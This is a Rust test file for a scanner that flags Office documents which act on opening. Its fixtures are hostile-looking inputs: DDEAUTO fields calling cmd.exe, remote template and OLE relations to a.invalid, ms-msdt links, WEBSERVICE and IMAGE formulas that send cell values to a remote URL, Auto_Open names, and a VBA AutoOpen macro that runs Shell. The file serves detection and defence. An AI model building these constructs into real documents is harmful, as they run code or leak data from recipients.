//! Is what a document would do when it is opened seen?

use super::{Member, check_ole, check_ooxml};
use crate::{Budget, Limits, Notes, Severity, Unscannable};

fn worst(name: &str, text: &str) -> Option<Severity> {
    let mut notes = Notes::default();
    let members = [Member {
        name,
        bytes: text.as_bytes(),
    }];
    check_ooxml(
        "a.docx",
        &members,
        &mut notes,
        &mut Budget::new(Limits::default()),
    )
    .expect("small");
    notes.worst()
}

fn relation(kind: &str, target: &str) -> Option<Severity> {
    let text = format!(
        "<?xml version=\"1.0\"?><r:Relationships xmlns:r='x'><r:Relationship Id='a' Type='http://x/relationships/{kind}' Target='{target}' TargetMode='External'/></r:Relationships>"
    );
    worst("word/_rels/document.xml.rels", &text)
}

#[test]
fn queries_of_another_machine_are_seen() {
    for (text, wanted) in [
        (
            "<c><textPr sourceFile='\\\\a.invalid\\s.txt'/></c>",
            Some(Severity::Malicious),
        ),
        (
            "<c><webPr url='file:////a.invalid/s'/></c>",
            Some(Severity::Malicious),
        ),
        (
            "<c><dbPr connection='Provider=x;Data Source=\\\\a.invalid\\s.mdb;'/></c>",
            Some(Severity::Malicious),
        ),
        (
            "<c><f>_xlfn.IMAGE(\"http://a.invalid/\"&amp;A1)</f></c>",
            Some(Severity::Suspicious),
        ),
        ("<!DOCTYPE c [<!-- ' -->]><c/>", Some(Severity::Suspicious)),
        (
            "<c><v:imagedata src='\\\\a.invalid\\s.png'/></c>",
            Some(Severity::Suspicious),
        ),
        (
            "<c><f>IF(1,CALL(\"urlmon\",\"x\"))</f></c>",
            Some(Severity::Malicious),
        ),
        ("<c><v:imagedata r:id='a'/><f>LOCALL(1)</f></c>", None),
        ("<c><textPr sourceFile='C:\\a.txt'/></c>", None),
        ("<c><dbPr connection='Data Source=a.mdb'/></c>", None),
    ] {
        assert_eq!(worst("xl/connections.xml", text), wanted, "{text}");
    }
}

#[test]
fn relations_are_judged_by_kind_and_target() {
    for (kind, target, wanted) in [
        ("hyperlink", "https://a.invalid/", None),
        ("hyperlink", "mailto:x@a.invalid", None),
        ("externalLinkPath", "Book2.xlsx", None),
        ("attachedTemplate", "Normal.dotm", None),
        (
            "attachedTemplate",
            "https://a.invalid/t.dotm",
            Some(Severity::Malicious),
        ),
        (
            "attachedTemplate",
            "\\\\a.invalid\\t.dotm",
            Some(Severity::Malicious),
        ),
        (
            "attached&#84;emplate",
            "file:////a.invalid/t.dotm",
            Some(Severity::Malicious),
        ),
        ("hyperlink", "file:///C:/a.docx", None),
        (
            "oleObject",
            "&#104;ttps://a.invalid/t",
            Some(Severity::Malicious),
        ),
        (
            "oleObject",
            "mhtml:https://a.invalid/x!x-usc:https://a.invalid/x",
            Some(Severity::Malicious),
        ),
        ("frame", "file://a.invalid/x", Some(Severity::Malicious)),
        (
            "image",
            "https://a.invalid/x.png",
            Some(Severity::Suspicious),
        ),
        ("hyperlink", "ms-msdt:/id", Some(Severity::Malicious)),
    ] {
        assert_eq!(relation(kind, target), wanted, "{kind} {target}");
    }
}

#[test]
fn fields_and_formulas_are_read_across_runs() {
    for (name, text, wanted) in [
        (
            "word/document.xml",
            "<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/c x\" </w:instrText>",
            Some(Severity::Malicious),
        ),
        (
            "word/document.xml",
            "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>",
            Some(Severity::Malicious),
        ),
        (
            "word/header1.xml",
            "<w:fldSimple w:instr='dde cmd \"/c x\"'/>",
            Some(Severity::Malicious),
        ),
        (
            "word/document.xml",
            "<w:instrText>QUOTE 68 68 69 65 85 84 79 32</w:instrText>",
            Some(Severity::Malicious),
        ),
        (
            "word/document.xml",
            "<w:instrText>INCLUDEPICTURE \"https://a.invalid/x\" \\d</w:instrText>",
            Some(Severity::Suspicious),
        ),
        (
            "word/document.xml",
            "<w:instrText>PAGE \\* MERGEFORMAT</w:instrText><w:t>DDE is old</w:t>",
            None,
        ),
        (
            "xl/worksheets/sheet1.xml",
            "<c><f>cmd|'/c calc'!A0</f></c>",
            Some(Severity::Malicious),
        ),
        (
            "xl/worksheets/sheet1.xml",
            "<c><f>WEBSERVICE(&quot;http://a.invalid/&quot;&amp;A1)</f></c>",
            Some(Severity::Suspicious),
        ),
        (
            "xl/worksheets/sheet1.xml",
            "<c><f>IF(E1&gt;0,\"up\",\"down\")</f></c><c><f>SUM(A1:A3)</f></c>",
            None,
        ),
        (
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c x'/></externalLink>",
            Some(Severity::Malicious),
        ),
        (
            "xl/workbook.xml",
            "<definedName name='_xlnm.Auto_Open' hidden='1'>M!$A$1</definedName>",
            Some(Severity::Malicious),
        ),
        (
            "xl/macrosheets/sheet1.xml",
            "<f>ALERT(1)</f>",
            Some(Severity::Suspicious),
        ),
        (
            "xl/macrosheets/sheet1.xml",
            "<f>EXEC(\"calc\")</f>",
            Some(Severity::Malicious),
        ),
        (
            "ppt/slides/slide1.xml",
            "<a:hlinkClick action='ppaction://program'/>",
            Some(Severity::Malicious),
        ),
        (
            "customUI/customUI.xml",
            "<customUI onLoad='Go'/>",
            Some(Severity::Suspicious),
        ),
        (
            "word/activeX/activeX1.xml",
            "<ax:ocx/>",
            Some(Severity::Suspicious),
        ),
        (
            "[Content_Types].xml",
            "<Types><Override ContentType='application/vnd.ms-office.vbaProject'/></Types>",
            Some(Severity::Suspicious),
        ),
    ] {
        assert_eq!(worst(name, text), wanted, "{name} {text}");
    }
}

/// A compound file with one stream in the ordinary sectors.
fn compound(name: &str, content: &[u8]) -> Vec<u8> {
    let mut file = vec![0; 512];
    file[..8].copy_from_slice(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    file[0x1e..0x20].copy_from_slice(&[9, 0]);
    file[0x30..0x34].copy_from_slice(&1_u32.to_le_bytes());
    file[0x3c..0x40].copy_from_slice(&[0xfe, 0xff, 0xff, 0xff]);
    file[0x44..0x48].copy_from_slice(&[0xfe, 0xff, 0xff, 0xff]);
    file[0x4c..0x200].fill(0xff);
    file[0x4c..0x50].copy_from_slice(&0_u32.to_le_bytes());
    let sectors = u32::try_from(content.len().div_ceil(512)).expect("small");
    let mut links = vec![0xffff_fffd_u32, 0xffff_fffe];
    links.extend((0..sectors).map(|at| {
        if at + 1 == sectors {
            0xffff_fffe
        } else {
            at + 3
        }
    }));
    links.resize(128, 0xffff_ffff);
    file.extend(links.iter().flat_map(|link| link.to_le_bytes()));
    let mut entry = |name: &str, kind: u8, start: u32, size: usize| {
        let mut raw = [0; 128];
        for (at, unit) in name.encode_utf16().enumerate() {
            raw[2 * at..2 * at + 2].copy_from_slice(&unit.to_le_bytes());
        }
        raw[0x40] = u8::try_from(2 * name.len() + 2).expect("short");
        raw[0x42] = kind;
        raw[0x74..0x78].copy_from_slice(&start.to_le_bytes());
        raw[0x78..0x7c].copy_from_slice(&u32::try_from(size).expect("small").to_le_bytes());
        file.extend_from_slice(&raw);
    };
    entry("Root Entry", 5, 0xffff_fffe, 0);
    entry(name, 2, 2, content.len());
    entry("", 0, 0, 0);
    entry("", 0, 0, 0);
    file.extend_from_slice(content);
    file.resize(file.len().div_ceil(512) * 512, 0);
    file
}

fn old(name: &str, content: &[u8]) -> (Option<Severity>, Result<(), Unscannable>) {
    let mut notes = Notes::default();
    let end = check_ole(
        "a.doc",
        &compound(name, content),
        &mut notes,
        &mut Budget::new(Limits::default()),
    );
    (notes.worst(), end)
}

/// Macro source, packed as literals.
fn macro_source(text: &str) -> Vec<u8> {
    let mut chunk = Vec::new();
    for eight in text.as_bytes().chunks(8) {
        chunk.push(0);
        chunk.extend_from_slice(eight);
    }
    let head = 0xb000 | u16::try_from(chunk.len() - 1).expect("short");
    [&[1][..], &head.to_le_bytes(), &chunk].concat()
}

#[test]
fn old_documents_are_opened() {
    let text = "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\n Shell \"x\"\r\nEnd Sub\r\n";
    assert_eq!(old("M", &macro_source(text)).0, Some(Severity::Malicious));
    let text = "Attribute VB_Name = \"M\"\r\nFunction Tax(x)\r\n Tax = x * 2\r\nEnd Function\r\n";
    assert_eq!(old("M", &macro_source(text)).0, Some(Severity::Suspicious));
    assert_eq!(old("EncryptedPackage", b"x").1, Err(Unscannable::Encrypted));
    assert_eq!(old("Equation Native", b"x").0, Some(Severity::Malicious));
    assert_eq!(
        old(
            "WordDocument",
            b"\x00\x00\x13 DDEAUTO c:\\x \x14\x15 and more text to fill it"
        )
        .0,
        Some(Severity::Malicious)
    );
    assert_eq!(
        old("Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0]).0,
        Some(Severity::Suspicious)
    );
    assert_eq!(
        old("Workbook", &[0x2f, 0, 2, 0, 0, 0]).1,
        Err(Unscannable::Encrypted)
    );
    assert_eq!(old("Contents", b"x"), (None, Ok(())));
}

#[test]
fn a_macro_under_another_name_is_malicious() {
    let project = compound(
        "M",
        &macro_source("Attribute VB_Name = \"M\"\r\nFunction F()\r\nEnd Function\r\n"),
    );
    for (file, name, wanted) in [
        ("a.xlsm", "xl/vbaProject.bin", Severity::Suspicious),
        ("a.xlsx", "xl/vbaProject.bin", Severity::Malicious),
        ("a.xlsm", "xl/printerSettings1.bin", Severity::Malicious),
    ] {
        let mut notes = Notes::default();
        let members = [Member {
            name,
            bytes: &project,
        }];
        check_ooxml(
            file,
            &members,
            &mut notes,
            &mut Budget::new(Limits::default()),
        )
        .expect("small");
        assert_eq!(notes.worst(), Some(wanted), "{file} {name}");
    }
}

#[test]
fn broken_compound_files_do_not_panic() {
    let whole = compound("WordDocument", &[0x13; 1500]);
    for at in (0..whole.len()).step_by(7) {
        for value in [0, 1, 0x7f, 0xff] {
            let mut broken = whole.clone();
            broken[at] = value;
            let mut notes = Notes::default();
            let _ended = check_ole(
                "a",
                &broken,
                &mut notes,
                &mut Budget::new(Limits::default()),
            );
            let _ended = check_ole(
                "a",
                &broken[..at],
                &mut notes,
                &mut Budget::new(Limits::default()),
            );
        }
    }
}

#[test]
fn fields_within_fields_are_followed() {
    let mark = |kind: &str| format!("<w:fldChar w:fldCharType='{kind}'/>");
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    let text = |text: &str| format!("<w:instrText>{text}</w:instrText>");
    let worst = |body: &str| {
        let part = format!("<w:document>{body}</w:document>");
        let mut notes = Notes::default();
        super::package::look("word/document.xml", part.as_bytes(), &mut notes);
        notes.worst()
    };
    let inner = [&*begin, &text("REF a"), &separate, "<w:t>DDE</w:t>", &end].concat();
    let named = [&*begin, &inner, &text(" cmd x"), &end].concat();
    assert_eq!(worst(&named), Some(Severity::Suspicious));
    let cut = [&*begin, &text("D"), &text("DE c"), &inner, &end].concat();
    assert_eq!(worst(&cut), Some(Severity::Malicious));
    let calm = [&*begin, &text("IF "), &inner, &text("= 1 a b"), &end].concat();
    assert_eq!(worst(&calm), None);
    let result = [&*begin, &text("TOC"), &separate, &inner, &end].concat();
    assert_eq!(worst(&result), None);
}

#[test]
fn queries_are_handed_on_and_told_by_where_they_lead() {
    for (body, parts, wanted) in [
        ("AAAAABYAAABQSwUGAAAAAAAAAAAAAAAAAAAAAAAA", 1, None),
        ("AAAA", 0, Some(Severity::Suspicious)),
    ] {
        let part = format!("<DataMashup xmlns='a'>{body}</DataMashup>");
        let mut notes = Notes::default();
        let member = Member {
            name: "customXml/item1.xml",
            bytes: part.as_bytes(),
        };
        check_ooxml(
            "a.xlsx",
            &[member],
            &mut notes,
            &mut Budget::new(Limits::default()),
        )
        .expect("small");
        assert_eq!((notes.parts().len(), notes.worst()), (parts, wanted));
    }
}
